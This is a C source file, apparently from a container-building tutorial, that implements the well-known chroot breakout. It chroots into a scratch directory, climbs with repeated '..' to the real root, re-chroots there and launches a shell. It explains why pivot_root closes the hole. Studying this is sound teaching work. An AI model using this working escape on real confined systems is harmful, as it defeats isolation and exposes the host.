/* chroot_escape.c - climb out of a chroot (run it as root inside step01).
 *
 *     container run ROOTFS /usr/local/bin/chroot-escape [COMMAND...]
 *
 * chroot(2) moves "/" but not the current directory, and a process may
 * chroot again. So: chroot into a subdirectory while our cwd stays above it;
 * now cwd is *outside* our root, and ".." walks up without ever meeting the
 * root that would stop it, up to the real "/". chroot(".") there and we are
 * out. pivot_root(2) in a mount namespace (step03) has no such hole: the old
 * root is unmounted, so there is nothing left to walk up to.
 *
 * Built static by `make rootfs` into /usr/local/bin of the default rootfs.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define MAX_DEPTH 256 /* more ".." than any real path is deep */
#define SCRATCH "/tmp/.chroot-escape" /* any directory below our root will do */

int main(int argc, char **argv)
{
	char *shell[] = {"/bin/sh", NULL};
	char **command = argc > 1 ? argv + 1 : shell;

	if (mkdir(SCRATCH, 0700) < 0 && errno != EEXIST)
		return perror("mkdir " SCRATCH), 1;
	if (chroot(SCRATCH) < 0) /* cwd "/" is now outside the root */
		return perror("chroot " SCRATCH), 1;
	for (int i = 0; i < MAX_DEPTH; i++)
		if (chdir("..") < 0)
			return perror("chdir .."), 1;
	if (chroot(".") < 0) /* wherever ".." led us becomes "/" */
		return perror("chroot ."), 1;
	execvp(command[0], command);
	fprintf(stderr, "exec %s: %s\n", command[0], strerror(errno));
	return 127;
}
